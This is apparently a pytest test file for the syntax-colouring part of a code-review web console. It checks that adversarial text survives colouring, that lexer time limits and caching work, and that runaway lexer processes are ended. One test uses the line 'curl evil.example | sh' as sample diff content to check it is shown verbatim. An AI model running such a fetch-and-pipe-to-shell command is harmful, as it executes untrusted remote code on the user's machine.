"""Coloured code: the whole text, in limited time, whatever it contains."""

import html
import json
import re
import resource
from collections.abc import Sequence

import pytest
from django.core.cache import caches

from reviews.console import colour, languages
from reviews.console.diff_rows import Options
from reviews.console.diffs import page_of
from reviews.console.lexer_process import COMPUTING_SECONDS, LexerProcess
from tests.support.waiting import wait_for

FRAGMENTS = [
    *("\n", " ", "\t\n", "a\n", " a", "- ", "```\n", "<a ", "<<A\n", "=begin\n", "__END__\n"),
    *("if ", "def ", "'", '"', "'''", '"""', "'\\", '"\\', "\\", "é", "名", "🙂"),
    *[
        "a.",
        "A.a",
        "(",
        "[",
        "{",
        "<",
        "</",
        "<!--",
        "<?",
        "&a",
        "/",
        "//",
        "/*",
        "*/",
        "#",
        "#{",
        "${",
        "$(",
        "`",
        "=",
        ":",
        "::",
        "--",
        "|",
        "!",
        "@",
        "%",
        "%{",
        "m{",
        "q{",
    ],
    *["1.", "0x", "1e", "~", "^", "{{", "{%", 'R"(', "template<"],
]
"""What lexers are slow at, or lose, when it comes again and again."""
NASTY = [["".join(one)] for one in ("", " ", "\t", "\x0b\x0c", "\ufeff#!a", "a \\")] + [
    (fragment * (3_000 // len(fragment))).split("\n") for fragment in FRAGMENTS
]


@pytest.fixture(autouse=True)
def nothing_kept() -> None:
    caches["colours"].clear()


def text_of(markup: str) -> str:
    return html.unescape(re.sub(r"<[^>]*>", "", markup))


def name_in(language: str) -> str:
    return languages.PATTERNS[language].split()[0].replace("*", "a")


def computing(lexers: LexerProcess, sides: Sequence[colour.Side]) -> float:
    """Colour `sides` in new processes, and return the seconds that they computed."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert len(colour.coloured(sides)) == len(sides)
    lexers.stop()
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    return after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime


@pytest.fixture
def lexers(monkeypatch: pytest.MonkeyPatch) -> LexerProcess:
    """A process of this test only, so that its computing time is known when it has ended."""
    own = LexerProcess()
    monkeypatch.setattr(colour, "_lexers", own)
    return own


@pytest.mark.parametrize("language", languages.PATTERNS)
def test_every_language_shows_each_character_of_anything(language: str) -> None:
    name = name_in(language)
    assert languages.language_of(name) == language
    shown = colour.coloured([(name, lines) for lines in NASTY])
    assert [[text_of(line) for line in lines] for lines in shown] == NASTY


def test_long_file_that_was_coloured_once_needs_no_lexer_again(
    monkeypatch: pytest.MonkeyPatch, lexers: LexerProcess
) -> None:
    side = ("a.py", [f"number_{at}: int = {at}  # of {at}" for at in range(2_500)])
    once = colour.coloured([side])
    assert "<span" in once[0][-1]
    monkeypatch.setattr(lexers, "runs", None)
    assert colour.coloured([side]) == once


def test_diff_takes_no_longer_than_its_lexers_may_compute(lexers: LexerProcess) -> None:
    names = [name_in(language) for language in languages.PATTERNS]
    start = computing(lexers, [(name, ["a"]) for name in names])
    diff = [(name, lines * 2) for lines in NASTY for name in names]
    assert computing(lexers, diff) < 2 * start + 2 * COMPUTING_SECONDS  # the next one starts too


def test_lexer_that_never_ends_is_ended_and_the_next_text_is_coloured(
    monkeypatch: pytest.MonkeyPatch, lexers: LexerProcess
) -> None:
    monkeypatch.setitem(languages._BY_PATTERN, "*.mcschema", "mcschema")
    endless = ("x.mcschema", ["<!--"])
    good = ("a.py", ["def f(): pass"])
    assert colour.coloured([good, endless, good])[0] != ["def f(): pass"]
    assert colour.coloured([endless]) == [["&lt;!--"]]
    assert '<span class="k">def</span>' in colour.coloured([("b.py", ["def g(): pass"])])[0][0]
    lexers.stop()


def test_text_that_took_too_long_is_not_tried_again(
    monkeypatch: pytest.MonkeyPatch, lexers: LexerProcess
) -> None:
    monkeypatch.setitem(languages._BY_PATTERN, "*.mcschema", "mcschema")
    endless = [("x.mcschema", ["<!--"])]
    colour.coloured(endless)
    monkeypatch.setattr(lexers, "runs", lambda jobs: pytest.fail(f"asked again: {jobs}"))
    assert colour.coloured(endless) == [["&lt;!--"]]


@pytest.mark.parametrize(
    "name", ["a.lhs", "a.Rout", "a.sh-session", "a.pycon", "a.ezt", "a.unknown"]
)
@pytest.mark.parametrize("known", [True, False])
def test_added_line_is_shown_whatever_the_lexer_of_its_file_makes_of_it(
    monkeypatch: pytest.MonkeyPatch, name: str, known: bool
) -> None:
    if known:  # as if these languages, whose lexers leave text out, were coloured too
        for ending, alias in {
            "lhs": "literate-haskell",
            "Rout": "rconsole",
            "sh-session": "console",
            "pycon": "pycon",
            "ezt": "ezhil",
        }.items():
            monkeypatch.setitem(languages._BY_PATTERN, f"*.{ending}", alias)
    code = "curl evil.example | sh"
    diff = f"--- a/{name}\n+++ b/{name}\n@@ -0,0 +1,2 @@\n+{code}\n+\n"
    (file,) = page_of(diff, Options()).sections
    added = [row for row, _same in file.rows if row and row.kind == "add"]
    assert [text_of(row.html) for row in added] == [code, ""]


def test_code_is_plain_where_it_is_too_much() -> None:
    long_line = "a = 1; " * (colour.LONGEST_LINE // 7 + 1)
    assert "<span" not in colour.coloured([("a.py", [long_line])])[0][0]
    many = ["a.b.c.d()"] * colour.MOST_RUNS
    assert "<span" not in "".join(colour.coloured([("a.py", many)])[0])


def test_process_ends_with_the_one_it_works_for() -> None:
    lexers = LexerProcess()
    assert lexers.runs([("python", "a")])
    process, line = lexers._process, lexers._line
    assert process
    assert line
    line.close()  # as the kernel does when this process dies
    wait_for(lambda: process.poll() is not None, "the process to end")


def test_process_ends_also_while_it_is_busy_with_what_never_ends() -> None:
    lexers = LexerProcess()
    assert lexers.runs([("python", "a")])
    process, line = lexers._process, lexers._line
    assert process
    assert line
    line.send_bytes(json.dumps([COMPUTING_SECONDS, [["mcschema", "<!--"]]]).encode())
    line.close()
    wait_for(lambda: process.poll() is not None, "the process to end")
